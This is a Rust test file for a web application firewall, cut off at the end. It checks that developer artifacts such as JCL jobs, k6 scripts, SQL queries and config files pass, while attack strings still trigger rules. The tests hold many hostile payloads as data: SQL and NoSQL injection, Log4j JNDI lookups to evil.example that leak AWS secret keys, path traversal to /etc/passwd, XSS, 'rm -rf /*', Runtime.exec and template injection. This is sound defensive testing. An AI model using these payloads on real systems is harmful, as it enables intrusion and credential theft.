    for t in ["/var/lib/postgresql", "pgdata:/var/lib/postgresql/data", "du -sh /var/lib/docker"] {
        let o = json_post(&waf, &serde_json::json!({ "value": t }).to_string());
        assert!(rule(&o, 3001).is_none(), "{t}: {o:?}");
    }
    for q in ["../../var/lib/mysql/mysql/user.MYD", "/var/log/apache2/access.log", "/etc/passwd"] {
        for o in as_field_and_query(&waf, q) {
            assert!(o.blocked && rule(&o, 3001) == Some(5), "{q}: {o:?}");
        }
    }
}

#[test]
fn holdout89_to_91_classes_pass_and_their_attacks_still_score() {
    let waf = waf_with("{}");
    let rule = |o: &Outcome, id: u32| o.matches.iter().find(|m| m.rule_id == id).map(|m| m.score);

    // The catalogue's column names are ordinary columns' names too (4231): a venue's seating plan
    // in CSV, a booking's `table_name` key, a performance-schema row's `SCHEMA_NAME`. As the
    // whole value, in a query, or as the names no application shares, they still count.
    let plan = "table,table_name,guest,dietary\n1,Top table,Chidi Okonkwo,\n2,Lagos,Adaeze Okonkwo,no pork\n";
    let upload = format!(
        "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"table_plan.csv\"\r\nContent-Type: text/csv\r\n\r\n{plan}\r\n--b--\r\n"
    );
    let o = post("/api/couple-portal/uploads", "multipart/form-data; boundary=b", &upload, &waf);
    assert!(!o.blocked && rule(&o, 4231).is_none(), "{o:?}");
    for body in
        [r#"{"table_name": "Window 4", "covers": 2}"#, r#"{"rows": [{"SCHEMA_NAME": "shop", "COUNT_STAR": 42}]}"#]
    {
        let o = json_post(&waf, body);
        assert!(!o.blocked && rule(&o, 4231).is_none(), "{body}: {o:?}");
    }
    for q in [
        "schema_name",
        "1' union select table_name from information_schema.tables--",
        "x' and 1=(select count(*) from information_schema.columns where table_name='users')--",
        "1 and extractvalue(1,concat(0x7e,(select group_concat(column_name) from x)))",
        "tempdb",
        "1;use msdb--",
    ] {
        for o in as_field_and_query(&waf, q) {
            assert!(o.blocked && rule(&o, 4231) == Some(5), "{q}: {o:?}");
        }
    }
    let o = post("/post", "application/x-www-form-urlencoded", "SCHEMA_NAME", &waf);
    assert!(o.blocked && rule(&o, 4231) == Some(5), "{o:?}");

    // A plain `${env:NAME}` closed after its name, inside a longer value, is a configuration's
    // variable (VS Code, the OpenTelemetry Collector, Serilog), no Log4j lookup that reaches
    // anything (4400). A default, a nested lookup, `jndi`, or the lookup as the whole value (the
    // probe) still counts.
    for t in [
        "exporters:\n  otlphttp:\n    headers:\n      Authorization: \"Bearer ${env:TRACEWELL_API_KEY}\"\n",
        r#"{"terminal.integrated.env.linux": {"PATH": "${env:HOME}/.local/bin:${env:PATH}"}}"#,
        "-Dlog.dir=${sys:user.home}/logs",
    ] {
        for o in as_field_and_query(&waf, t) {
            assert!(rule(&o, 4400).is_none(), "{t}: {o:?}");
        }
    }
    for q in [
        "${${env:foo:-j}ndi:ldap://198.51.100.1/a}",
        "$${env:x:-${env:y:-$}{jndi:ldap://evil.example/a}",
        "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.evil.example/a}",
        "${env:AWS_SECRET_ACCESS_KEY",
        "${env:AWS_SECRET_ACCESS_KEY}",
        " ${sys:user.name} ",
        "${lower:j}${lower:n}di",
    ] {
        for o in as_field_and_query(&waf, q) {
            assert!(o.blocked && rule(&o, 4400) == Some(5), "{q}: {o:?}");
        }
    }

    // A scraper's selectors: an HTML element's own pseudo-element (`h1::text`) and one after a
    // descendant combinator (`div[role="main"] ::text`) are no PostgreSQL casts (4212).
    let crawl = "extract:\n  title: 'h1::text'\n  price: 'td::text'\n  body: 'div[role=\"main\"] ::text'\n";
    for o in as_field_and_query(&waf, crawl) {
        assert!(!o.blocked && rule(&o, 4212).is_none(), "{o:?}");
    }
    for q in ["password::text", "x' or name::text = 'a'--", "h1::text' or '1'='1"] {
        for o in as_field_and_query(&waf, q) {
            assert!(o.blocked, "{q}: {o:?}");
        }
    }

    // A z/OS job's JCL: its `//*` comment lines and the `/*` that ends in-stream data are no
    // root globs (3205 weak). A `/*` inside a line of it still counts.
    let jcl = "//PAYRPT   JOB (ACCT),'J SMITH',CLASS=A,MSGCLASS=X\n//*-------------------------\n//* STEP010: SORT BY DEPT\n//*-------------------------\n//STEP010  EXEC PGM=SORT\n//SYSOUT   DD SYSOUT=*\n//SYSIN    DD *\n  SORT FIELDS=(1,4,CH,A)\n/*\n";
    let o = post("/zosmf/restjobs/jobs", "text/plain", jcl, &waf);
    assert!(!o.blocked && rule(&o, 3205) == Some(3), "{o:?}");
    let bad = jcl.replace("  SORT FIELDS=(1,4,CH,A)", "  rm -rf /* ; SORT");
    let o = post("/zosmf/restjobs/jobs", "text/plain", &bad, &waf);
    assert!(o.blocked && rule(&o, 3205) == Some(5), "{o:?}");
    let o = post("/notes", "text/plain", "//* STEP010\nrm -rf /*\n", &waf);
    assert!(o.blocked, "{o:?}");
}

#[test]
fn holdout92_to_94_classes_pass_and_their_attacks_still_score() {
    let waf = waf_with("{}");
    let rule = |o: &Outcome, id: u32| o.matches.iter().find(|m| m.rule_id == id).map(|m| m.score);

    // A load test's pause on a line of its own (`sleep(1);` in k6) is no time-based injection
    // (4204): MySQL runs no bare `SLEEP()` as a statement.
    let k6 = "import http from 'k6/http';\nimport { check, sleep } from 'k6';\n\nexport default function () {\n  const res = http.get('https://shop.example/api/items');\n  check(res, { 'status was 200': (r) => r.status == 200 });\n  sleep(1);\n  http.post('https://shop.example/api/cart', '{}');\n  sleep(Math.random() * 3 + 1);\n}\n";
    for o in as_field_and_query(&waf, k6) {
        assert!(rule(&o, 4204).is_none(), "{o:?}");
    }
    // After an operator, a keyword or a quote, on one line with other text, with a query as its
    // argument, or alone as the value, it still counts.
    for q in [
        "1' or sleep(5)#",
        "; sleep(0) ",
        "sleep(5)",
        "x'\nor\nsleep(5)#",
        "a;\n  sleep(if(1=1,5,0));",
        "a;\n  sleep((select 5));",
        "1 and 0=benchmark(3000000,md5(1))",
    ] {
        for o in as_field_and_query(&waf, q) {
            assert!(rule(&o, 4204) == Some(5), "{q:?}: {o:?}");
        }
    }

    // JSON Lines under `application/jsonl` and Elasticsearch's versioned bulk type are parsed
    // line by line; SubRip subtitles are text. None is a media type outside the list (1010), and
    // what they carry is inspected.
    let bulk = "{\"index\":{\"_index\":\"products\",\"_id\":\"p-1\"}}\n{\"name\":\"Oak desk\",\"price\":249}\n";
    for ct in ["application/vnd.elasticsearch+x-ndjson; compatible-with=8", "application/jsonl"] {
        let o = post("/_bulk", ct, bulk, &waf);
        assert!(!o.blocked && o.matches.is_empty(), "{ct}: {o:?}");
        let o = post("/_bulk", ct, "{\"index\":{}}\n{\"name\":\"<script>alert(1)</script>\"}\n", &waf);
        assert!(
            blocked_category(&o, Category::Xss) && o.matches.iter().any(|m| m.target == "json:$.name"),
            "{ct}: {o:?}"
        );
    }
    // The AWS JSON protocol's types are JSON (holdout96's DynamoDB and Kinesis calls), a chess
    // game's PGN is text (holdouts 9, 56 and 96).
    let put = r#"{"TableName": "orders", "Item": {"pk": {"S": "o#1042"}, "note": {"S": "Leave at Mrs O'Neill's"}}}"#;
    let o = post("/", "application/x-amz-json-1.0", put, &waf);
    assert!(!o.blocked && o.matches.is_empty(), "{o:?}");
    let o =
        post("/", "application/x-amz-json-1.1", r#"{"StreamName": "s", "Data": "<script>alert(1)</script>"}"#, &waf);
    assert!(blocked_category(&o, Category::Xss) && o.matches.iter().any(|m| m.target == "json:$.Data"), "{o:?}");
    let pgn = "[Event \"Club Championship\"]\n[White \"O'Brien, Sean\"]\n[Black \"Zoë Müller\"]\n[Result \"1-0\"]\n\n1. e4 e5 2. Nf3 Nc6 3. Bb5 a6 {Ruy Lopez} 4. Ba4 Nf6 5. O-O Be7 1-0\n";
    let o = post("/v1/students/me/games", "application/x-chess-pgn", pgn, &waf);
    assert!(!o.blocked && o.matches.is_empty(), "{o:?}");
    let srt = "1\n00:00:01,200 --> 00:00:04,050\nWelcome back to the show.\n\n2\n00:00:04,100 --> 00:00:06,000\nLet's get started.\n";
    let o = post("/v2/episodes/12/transcripts", "application/x-subrip", srt, &waf);
    assert!(!o.blocked && o.matches.is_empty(), "{o:?}");
    let o = post(
        "/v2/episodes/12/transcripts",
        "application/x-subrip",
        "1\n00:00:01,000 --> 00:00:02,000\n<script>alert(1)</script>\n",
        &waf,
    );
    assert!(blocked_category(&o, Category::Xss), "{o:?}");
}

#[test]
fn holdout98_to_103_classes_pass_and_their_attacks_still_score() {
    let waf = waf_with("{}");
    let rule = |o: &Outcome, id: u32| o.matches.iter().find(|m| m.rule_id == id).map(|m| m.score);
    let send = |method: &str, target: &str, ct: &str, body: &str| send(&waf, method, target, &[], ct, body);

    // Go's and Bazel's "every package below" (`./...`, `//media/...`) is no step up (3000); a
    // step up, `/.../` and four dots still are.
    for v in ["//media/...", "go test ./... -race", "./..."] {
        for o in as_field_and_query(&waf, v) {
            assert!(rule(&o, 3000).is_none(), "{v}: {o:?}");
        }
    }
    for v in ["/var/www/..", "/.../.../etc/passwd", "....//....//etc/passwd", "x/...."] {
        for o in as_field_and_query(&waf, v) {
            assert!(rule(&o, 3000) == Some(5), "{v}: {o:?}");
        }
    }
    // A JSON document held in a string escapes its quotes: `\"...\"` separates no path.
    let o = json_post(&waf, r#"{"schema": "{\"doc\": \"e.g. {\\\"line1\\\": \\\"...\\\"}\"}"}"#);
    assert!(!o.blocked && rule(&o, 3000).is_none(), "{o:?}");
    for o in as_field_and_query(&waf, "..\\..\\windows\\win.ini") {
        assert!(blocked_category(&o, Category::Lfi), "{o:?}");
    }

    // A method `eval()` with nothing to evaluate (PyTorch's `model.eval()`) runs nothing (4106,
    // 3301, 3402); with an argument, open at the end of the value, or the global's, it still
    // counts.
    for o in as_field_and_query(&waf, "What's the difference between `torch.no_grad()` and `model.eval()`?") {
        assert!(!o.blocked && o.matches.is_empty(), "{o:?}");
    }
    let o = outcome(&waf, "/post?testarg=%5Cu0065val%28%29");
    assert!(o.blocked, "{o:?}");
    for v in ["eval(atob('YWxlcnQoMSk='))", "top.eval(name)", "x=eval( location.hash.slice(1) )", "eval(", "eval()"] {
        for o in as_field_and_query(&waf, v) {
            assert!(rule(&o, 4106) == Some(5), "{v}: {o:?}");
        }
    }

    // A MongoDB shell program (a console's saved query) names its operators by design (4211 weak);
    // a PHP variable before `)` is no operator at all. An operator as a key still counts.
    let mongosh = "db.orders.aggregate([\n  { $match: { status: { $in: ['paid', 'shipped'] } } },\n  { $group: { _id: '$sku', n: { $sum: 1 } } }\n])";
    for o in as_field_and_query(&waf, mongosh) {
        assert!(!o.blocked && rule(&o, 4211) != Some(5), "{o:?}");
    }
    let php = "add_filter( 'the_content', function ( $text ) {\n    return str_replace( 'Foo', 'Bar', $text );\n} );";
    for o in as_field_and_query(&waf, php) {
        assert!(rule(&o, 4211).is_none(), "{o:?}");
    }
    for v in [
        "{\"$where\": \"sleep(100)\"}",
        "[$ne]",
        "{$gt: ''}",
        "{\\\"$ne\\\": 1}",
        "db.users.find() ; {\"$where\": \"1\"}",
    ] {
        for o in as_field_and_query(&waf, v) {
            assert!(rule(&o, 4211) == Some(5), "{v}: {o:?}");
        }
    }
    let o = outcome(&waf, "/login?user[$ne]=x&pass[$ne]=x");
    assert!(blocked_category(&o, Category::Sqli), "{o:?}");

    // A `${name}` after a glyph in a prompt theme's format string is a placeholder (3305); alone
    // (a shell's expansion, in a JSON field too), with a call in it or splitting a word, it still
    // counts.
    let o = send(
        "PUT",
        "/v1/files/starship.toml",
        "text/plain",
        "[git_status]\nahead = \"⇡${count}\"\nbehind = \"⇣${count}\"\n",
    );
    assert!(!o.blocked && rule(&o, 3305).is_none(), "{o:?}");
    assert!(rule(&outcome(&waf, "/get?foo=%24%7Ba%7D"), 3305) == Some(5));
    for v in ["${datasource}", "${system('id')}", "c${x}url http://x", "${f}(1)"] {
        for o in as_field_and_query(&waf, v) {
            assert!(rule(&o, 3305) == Some(5), "{v}: {o:?}");
        }
    }

    // A Maven coordinate names no class (4401); the package alone and a gadget class still count.
    let o = json_post(&waf, r#"{"package": {"name": "org.apache.commons:commons-text", "ecosystem": "Maven"}}"#);
    assert!(!o.blocked && rule(&o, 4401).is_none(), "{o:?}");
    for v in ["org.apache.commons", "org.apache.commons.collections.functors.InvokerTransformer"] {
        for o in as_field_and_query(&waf, v) {
            assert!(rule(&o, 4401) == Some(5), "{v}: {o:?}");
        }
    }

    // REST Client's `{{$datetime iso8601 -30 d}}` subtracts nothing (3600); `{{7 - 7}}` does.
    let http = "### List my orders\nGET {{baseUrl}}/v2/orders?since={{$datetime iso8601 -30 d}}\nAuthorization: Bearer {{token}}\n";
    let o = send("PUT", "/api/v1/workspaces/w/files/orders.http", "text/plain", http);
    assert!(!o.blocked && rule(&o, 3600).is_none(), "{o:?}");
    for v in ["{{7 - 7}}", "{{ 10 -1 }}"] {
        for o in as_field_and_query(&waf, v) {
            assert!(rule(&o, 3600) == Some(5), "{v}: {o:?}");
        }
    }

    // A PUT or PATCH writes the dot-file its path names (3002): a dotfiles sync, an online IDE's
    // `.replit`. Read with a GET, or written into version-control metadata, the web server's
    // settings or WEB-INF, it still counts.
    for (m, t) in [
        ("PUT", "/v1/files/.vimrc"),
        ("PUT", "/v1/files/.config%2Fnvim%2Finit.lua"),
        ("PATCH", "/api/repls/r1/files/.replit"),
    ] {
        let o = send(m, t, "text/plain", "set number\n");
        assert!(!o.blocked && rule(&o, 3002).is_none(), "{m} {t}: {o:?}");
    }
    assert!(rule(&outcome(&waf, "/v1/files/.vimrc"), 3002) == Some(5));
    for t in ["/repo/.git/hooks/pre-commit", "/site/.htaccess", "/app/WEB-INF/web.xml", "/x/.user.ini", "/r/.hg/hgrc"] {
        let o = send("PUT", t, "text/plain", "x\n");
        assert!(o.blocked && o.matches.iter().any(|m| m.category == Category::Lfi), "{t}: {o:?}");
    }

    // A comment that ends a line of C (`uint8_t channels;   /* 3 = RGB, 4 = RGBA */`) globs
    // nothing (3205 weak); after a word it is the glob it looks like.
    let header = "#pragma once\n#include <stdint.h>\n\ntypedef struct {\n    uint32_t width;\n    uint8_t  channels;   /* 3 = RGB, 4 = RGBA */\n    uint8_t  colorspace; /* 0 = sRGB, 1 = linear */\n} qoi_desc;\n";
    let o = json_post(&waf, &serde_json::json!({ "header": header }).to_string());
    assert!(!o.blocked && rule(&o, 3205) != Some(5), "{o:?}");
    for o in as_field_and_query(&waf, "rm -rf /* */") {
        assert!(rule(&o, 3205) == Some(5), "{o:?}");
    }

    // A literal of spaces in a query's concatenation (`first_name || ' ' || last_name`) opens a
    // string, it closes none (4203, 4213, 4214 stay weak in a whole query).
    let sql = "SELECT\n  c.first_name || ' ' || c.last_name AS full_name,\n  SUM(o.total) AS ltv\nFROM customers c\nJOIN orders o USING (user_id)\nWHERE o.status <> 'refunded'\nGROUP BY 1\nHAVING SUM(o.total) >= 500";
    for o in as_field_and_query(&waf, sql) {
        assert!(!o.blocked, "{o:?}");
    }
    for v in ["' ' or 1=1 --", "x' ' union select password from users --"] {
        for o in as_field_and_query(&waf, v) {
            assert!(blocked_category(&o, Category::Sqli), "{v}: {o:?}");
        }
    }

    // A JSDoc type's `{import('…')}` imports nothing (4106); an `import('…')` in the code, or in
    // a comment without a tag, still counts.
    let config = "/** @type {import('tailwindcss').Config} */\nmodule.exports = {\n  content: ['./src/index.html'],\n  theme: { extend: {} },\n};\n";
    let o = send("PUT", "/v1/projects/site/files/tailwind.config.js", "application/javascript", config);
    assert!(!o.blocked && rule(&o, 4106).is_none(), "{o:?}");
    for v in [
        "/** @type {import('x').Y} */\nimport('//evil.example/x.js');",
        "/* {import('//evil.example/x.js')} */",
        "<img src=x onerror=\"{import('//evil.example/x.js')}\">",
    ] {
        for o in as_field_and_query(&waf, v) {
            assert!(rule(&o, 4106) == Some(5), "{v}: {o:?}");
        }
    }

    // HLS playlists, citations (BibTeX, RIS), EDN and property lists are in the media-type list
    // (1010) and read as text; an HLS playlist under `audio/` is text too, so what it carries is
    // inspected.
    let m3u8 =
        "#EXTM3U\n#EXT-X-VERSION:6\n#EXT-X-STREAM-INF:BANDWIDTH=7800000,RESOLUTION=1920x1080\n1080p/index.m3u8\n";
    for (ct, body) in [
        ("application/vnd.apple.mpegurl", m3u8),
        ("audio/mpegurl", m3u8),
        ("application/x-bibtex; charset=utf-8", "@article{pauli2012,\n  author = {Pauli, Harald and O'Neill, Ann},\n  year = {2012}\n}\n"),
        ("application/x-research-info-systems", "TY  - JOUR\nAU  - Dullinger, Stefan\nPY  - 2012\nER  - \n"),
        ("application/edn", "{:paths [\"src\"] :deps {org.clojure/clojure {:mvn/version \"1.11.3\"}}}"),
        ("application/x-plist", "<?xml version=\"1.0\"?>\n<plist version=\"1.0\"><dict><key>method</key><string>app-store</string></dict></plist>\n"),
    ] {
        let o = send("PUT", "/v1/files/x", ct, body);
        assert!(!o.blocked && o.matches.is_empty(), "{ct}: {o:?}");
    }
    let o = send("PUT", "/v1/files/x", "audio/x-mpegurl", "#EXTM3U\n#EXTINF:10,<script>alert(1)</script>\nseg1.ts\n");
    assert!(blocked_category(&o, Category::Xss), "{o:?}");
}

#[test]
fn holdout104_to_106_classes_pass_and_their_attacks_still_score() {
    let waf = waf_with("{}");
    let rule = |o: &Outcome, id: u32| o.matches.iter().find(|m| m.rule_id == id).map(|m| m.score);
    let form = |headers: &[(&str, &str)], body: &str| {
        send(&waf, "POST", "/api/v2/sessions/5120/attachments", headers, "application/x-www-form-urlencoded", body)
    };

    // A session-id-named field that the browser says comes from the same site (Fetch Metadata:
    // a page on `shop.example` posting to `book.shop.example`) fixes no session (4350); from
    // another site, from a link opened outside the browser (`none`) or without the header and a
    // same-host Referer, it still counts.
    for site in ["same-site", "same-origin", "Same-Site"] {
        let o = form(
            &[("sec-fetch-site", site), ("referer", "https://shop.example/account")],
            "session_id=5120&kind=lyrics",
        );
        assert!(!o.blocked && rule(&o, 4350).is_none(), "{site}: {o:?}");
    }
    for headers in [
        &[("sec-fetch-site", "cross-site"), ("referer", "https://evil.example/")][..],
        &[("sec-fetch-site", "none")][..],
        &[("referer", "https://evil.example/")][..],
    ] {
        let o = form(headers, "PHPSESSID=attacker&kind=lyrics");
        assert!(rule(&o, 4350) == Some(5), "{headers:?}: {o:?}");
    }

    // The Serverless Framework's `${ssm:/app/${sls:stage}/url}` nests a lookup in a value (4400);
    // nested where it spells the outer lookup's prefix, it still counts.
    let yml = "service: order-notifier\nprovider:\n  environment:\n    TABLE_NAME: ${self:service}-${sls:stage}-orders\n    SLACK_WEBHOOK_URL: ${ssm:/order-notifier/${sls:stage}/slack-webhook}\n";
    let o = post("/v1/config/validate", "application/x-yaml", yml, &waf);
    assert!(!o.blocked && rule(&o, 4400).is_none(), "{o:?}");
    for v in [
        "${${lower:j}ndi:ldap://x.example/a}",
        "${j${::-n}di:ldap://x}",
        "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x}",
        "${ssm:${jndi:ldap://x}}",
    ] {
        for o in as_field_and_query(&waf, v) {
            assert!(rule(&o, 4400) == Some(5), "{v}: {o:?}");
        }
    }

    // A route pattern alone in a JSON field (`"/*"` in a CDN invalidation, an edge matcher) is
    // no glob a shell expands (3205); as a query argument, after a command or before more it
    // still is.
    let o = json_post(&waf, r#"{"Paths": {"Quantity": 3, "Items": ["/*", "/api/v2/*", "/assets/**"]}}"#);
    assert!(!o.blocked && rule(&o, 3205).is_none(), "{o:?}");
    for body in [r#"{"p": "cat /*"}"#, r#"{"p": "/*;id"}"#, r#"{"p": "/*/bin"}"#] {
        assert!(rule(&json_post(&waf, body), 3205) == Some(5), "{body}");
    }
    assert!(rule(&outcome(&waf, "/x?p=%2F%2A"), 3205) == Some(5));

    // A Java source file (a course's submission with `import java.util.ArrayDeque;`) names
    // classes by design (4401 weak); with reflection or process creation it still counts.
    let java = "import java.util.ArrayDeque;\nimport java.util.Scanner;\n\npublic class Main {\n    public static void main(String[] args) {\n        ArrayDeque<Integer> q = new ArrayDeque<>();\n        q.add(1);\n        System.out.println(q.peek());\n    }\n}\n";
    let o = json_post(&waf, &serde_json::json!({ "language": "java", "source": java }).to_string());
    assert!(!o.blocked && rule(&o, 4401) != Some(5), "{o:?}");
    let evil = java.replace("q.add(1);", "java.lang.Runtime.getRuntime().exec(\"id\");");
    let o = json_post(&waf, &serde_json::json!({ "language": "java", "source": evil }).to_string());
    assert!(o.blocked && o.matches.iter().any(|m| m.category == Category::Java && m.score == 5), "{o:?}");

    // CSS's universal selector and its block (`*{transition:none!important}`) is no Thymeleaf
    // selection (3600); `*{T(java.lang.Runtime)…}` and `*{name}` are.
    let css = ".sale{color:#b91c1c}\n@media (prefers-reduced-motion:reduce){*{transition:none!important;animation:none!important}}\n";
    let o = json_post(&waf, &serde_json::json!({ "asset": { "key": "assets/theme.css", "value": css } }).to_string());
    assert!(!o.blocked && rule(&o, 3600).is_none(), "{o:?}");
    for v in ["*{T(java.lang.Runtime).getRuntime().exec('id')}", "x *{name}"] {
        for o in as_field_and_query(&waf, v) {
            assert!(rule(&o, 3600) == Some(5), "{v}: {o:?}");
        }
    }

    // A Sieve script (RFC 5804's `application/sieve`) is in the media-type list, read as text.
    let sieve =
        "require [\"fileinto\"];\nif header :contains \"subject\" \"[invoice]\" {\n  fileinto \"Invoices\";\n}\n";
    let o = post("/api/v1/sieve/scripts/main", "application/sieve", sieve, &waf);
    assert!(!o.blocked && rule(&o, 1010).is_none(), "{o:?}");
}

#[test]
fn holdout107_to_109_classes_pass_and_their_attacks_still_score() {
    let waf = waf_with("{}");
    let rule = |o: &Outcome, id: u32| o.matches.iter().find(|m| m.rule_id == id).map(|m| m.score);

    // A recursive common table expression is a whole statement by design, and the
    // concatenation's `' > '` literal breaks out of nothing. (Its `UNION` still counts (4202): a
    // whole statement with one is a subquery's injection, `… in (select 1 union select …)`.)
    let cte = "WITH RECURSIVE chain(id, depth) AS (\n    SELECT id, 0 FROM employees WHERE manager_id IS NULL\n)\nSELECT depth, name, c.path || ' > ' || e.name AS path, concat(a, ' - ', b)\nFROM chain\nWHERE depth > 1\nORDER BY path;";
    for o in as_field_and_query(&waf, cte) {
        assert!(!o.blocked, "{o:?}");
    }
    let o = json_post(
        &waf,
        &serde_json::json!({ "v": cte.replace("\n)\n", "\n  UNION ALL\n    SELECT 1, 1\n)\n") }).to_string(),
    );
    assert!(rule(&o, 4202) == Some(5), "{o:?}");
    for v in [
        "1 union select password from users",
        "x' union all select password from users --",
        "1) union select 1,2,3 --",
        "1 || ' or '1'='1",
        "a, ' or 1=1 --",
    ] {
        for o in as_field_and_query(&waf, v) {
            assert!(blocked_category(&o, Category::Sqli), "{v}: {o:?}");
        }
    }

    // Puppeteer's and Playwright's `page.$eval(…)` and `$$eval(…)` query the page (4106, 3402);
    // AngularJS's `$eval(…)` alone and the global `eval(…)` still count.
    let script = "const title = await page.$eval('h1.product-title', el => el.textContent.trim());\nconst prices = await page.$$eval('.price', els => els.map(e => e.textContent));\n";
    let o = json_post(&waf, &serde_json::json!({ "code": script }).to_string());
    assert!(!o.blocked && rule(&o, 4106).is_none() && rule(&o, 3402).is_none(), "{o:?}");
    for v in ["{{$eval('constructor.constructor(\"alert(1)\")()')}}", "x=$eval(location.hash)", "eval('al'+'ert(1)')"] {
        for o in as_field_and_query(&waf, v) {
            assert!(rule(&o, 4106) == Some(5), "{v}: {o:?}");
        }
    }
}

#[test]
fn holdout110_to_112_classes_pass_and_their_attacks_still_score() {
    let waf = waf_with("{}");
    let rule = |o: &Outcome, id: u32| o.matches.iter().find(|m| m.rule_id == id).map(|m| m.score);

    // A wiki page or bug report whose fenced ```sql blocks hold whole statements: their casts and
    // column numbers are the examples' own (4212, 4213 weak, one program's signal).
    let page = "# Runbook: table bloat\n\nRun this on the replica:\n\n```sql\nSELECT relname, round(n_dead_tup::numeric / nullif(n_live_tup, 0) * 100, 1) AS dead_pct\nFROM pg_stat_user_tables\nWHERE relname <> 'orders'\nGROUP BY 1 ORDER BY 1;\n```\n\nDon't run `VACUUM FULL` during business hours.\n";
    let o = json_post(&waf, &serde_json::json!({ "content": page }).to_string());
    assert!(!o.blocked, "{o:?}");
    assert!(rule(&o, 4212).is_none_or(|s| s < 5) && rule(&o, 4213).is_none_or(|s| s < 5), "{o:?}");
    // The same clause in the text around the blocks, or in a block that holds no whole
    // statement, counts as before.
    for v in [
        page.replace("Don't run", "1 order by 3;-- and run"),
        page.replace("SELECT relname,", "x' order by 3;\nSELECT relname,"),
        "Try this in the search box:\n\n```\n1 order by 5;\n```\n\nthen report what happens".to_string(),
        "Check the cast here:\n\n```\n1'::numeric --\n```\n\nit should be fine".to_string(),
    ] {
        let o = json_post(&waf, &serde_json::json!({ "content": v }).to_string());
        assert!(rule(&o, 4213) == Some(5) || rule(&o, 4212) == Some(5), "{v}: {o:?}");
    }

    // A static site's post includes a partial by its plain relative name (3600 no signal);
    // a quoted or rooted path, a parent step, a variable and the other tags still count.
    let post_md = "---\nlayout: post\ntitle: \"Summer reading\"\n---\n\nEvery June we vote.\n\n{% include figure.html src=\"/assets/img/chart.png\" caption=\"Votes\" %}\n{%- include blog/card.html -%}\n";
    let o = send(&waf, "PUT", "/v1/sites/club/files/_posts/2024-06-05-reading.md", &[], "text/markdown", post_md);
    assert!(!o.blocked && rule(&o, 3600).is_none(), "{o:?}");
    for v in [
        "{% include '/etc/passwd' %}",
        "{% include ../../../etc/passwd %}",
        "{% include {{ page.file }} %}",
        "{% include figure.html %}{% import 'os' as os %}",
        "{% extends 'base.html' %}",
    ] {
        for o in as_field_and_query(&waf, v) {
            assert!(rule(&o, 3600) == Some(5), "{v}: {o:?}");
        }
    }

    // pytest's report of a failed assertion compares lists (3301): after a space, a list of
    // numbers is no index of a PHP function; an index with a string, a name or an expression is.
    let o = json_post(
        &waf,
        &serde_json::json!({ "summary": "FAILED tests/test_repo.py::test_paginate - AssertionError: assert [101, 102] == [100, 101, 102]" })
            .to_string(),
    );
    assert!(!o.blocked && rule(&o, 3301).is_none(), "{o:?}");
    for v in ["system ['id']", "system [ 'id']", "assert [1+1]", "system[ 1]", "assert($_GET['x'])"] {
        for o in as_field_and_query(&waf, v) {
            assert!(rule(&o, 3301) == Some(5), "{v}: {o:?}");
        }
    }

    // A pull request's patch that adds a migration: its new side is a whole script (4212 weak).
    let patch = "diff --git a/db/20240514_refunds.sql b/db/20240514_refunds.sql\nnew file mode 100644\nindex 0000000..e3c19aa\n--- /dev/null\n+++ b/db/20240514_refunds.sql\n@@ -0,0 +1,6 @@\n+-- +migrate Up\n+CREATE TABLE refunds (id BIGSERIAL PRIMARY KEY, amount NUMERIC(12,2));\n+INSERT INTO refunds (id, amount)\n+SELECT id, (meta->>'refund_amount')::numeric FROM orders;\n+-- +migrate Down\n+DROP TABLE refunds;\n";
    let o = send(&waf, "POST", "/api/v3/repos/a/b/pulls/1/files/raw", &[], "text/x-diff", patch);
    assert!(!o.blocked && rule(&o, 4212).is_none_or(|s| s < 5), "{o:?}");
    // An added line that breaks out, or a line that is no part of a diff, counts as before.
    for p in [
        patch.replace("+DROP TABLE refunds;", "+1' order by 3--"),
        patch.replace("+-- +migrate Down\n", "1 order by 3;\n"),
    ] {
        let o = send(&waf, "POST", "/api/v3/repos/a/b/pulls/1/files/raw", &[], "text/x-diff", &p);
        assert!(rule(&o, 4213) == Some(5) || rule(&o, 4212) == Some(5), "{p}: {o:?}");
    }
}

#[test]
fn holdout113_to_115_classes_pass_and_their_attacks_still_score() {
    let waf = waf_with("{}");
    let rule = |o: &Outcome, id: u32| o.matches.iter().find(|m| m.rule_id == id).map(|m| m.score);

    // T-SQL's national string literal `N'O''%'` opens a string; it closes no word before it.
    let tsql = "select top 50 c.CustomerID, c.LastName+', '+c.FirstName as FullName from dbo.Customers c where c.LastName like N'O''%' group by c.CustomerID order by 1 desc";
    let o = json_post(&waf, &serde_json::json!({ "sql": tsql }).to_string());
    assert!(!o.blocked, "{o:?}");
    // A size chart's inch ranges as keys close no string (4217 weak).
    let chart = r#"{"sizes":{"22\"-28\"":"13.50","30.5\" - 34\"":"15.00"}}"#;
    let o = json_post(&waf, chart);
    assert!(!o.blocked && rule(&o, 4217).is_none_or(|s| s < 5), "{o:?}");
    for v in ["x n' or '1'='1", "n' or 1=1 --", "1\" or 1=1--", "22\"-28\" or 1=1", "admin' or 1=1--"] {
        for o in as_field_and_query(&waf, v) {
            assert!(blocked_category(&o, Category::Sqli), "{v}: {o:?}");
        }
    }

    // A user agent's product tokens after `|` name a runtime with its version (3200 weak); a
    // runtime alone after a pipe runs what the pipe feeds it, and other commands count.
    let ua = |v: &str| waf.outcome(&waf.inspect_head(&get("/admin/api/graphql.json", &[("user-agent", v)])));
    let o = ua("ShopifyAPI Library v12.5.0 | Python 3.11.7");
    assert!(!o.blocked, "{o:?}");
    for v in ["x/1.0 | python", "x v1.0 | sh", "x/1.0 | bash 5", "x/1.0 | id", "x/1.0 | python -c 'import os'"] {
        let o = ua(v);
        assert!(rule(&o, 3200) == Some(5), "{v}: {o:?}");
    }

    // A regex tester's named group of any text (`(?P<msg>.*)`) is no LDAP wildcard (1016).
    let pattern = r"(?P<level>INFO|WARN|ERROR)\s+\[(?P<thread>[^\]]+)\]\s+(?P<logger>[\w.$]+)\s+-\s+(?P<msg>.*)";
    let o = json_post(&waf, &serde_json::json!({ "pattern": pattern }).to_string());
    assert!(!o.blocked && rule(&o, 1016).is_none(), "{o:?}");
    for v in ["*)(uid=*))(|(uid=*", "admin*)(|(password=*)", "x)(cn=*"] {
        let o = json_post(&waf, &serde_json::json!({ "user": v }).to_string());
        assert!(rule(&o, 1016) == Some(5), "{v}: {o:?}");
    }

    // A scraped relative link to a page up the site's tree opens a page (3000 no signal).
    let o = json_post(
        &waf,
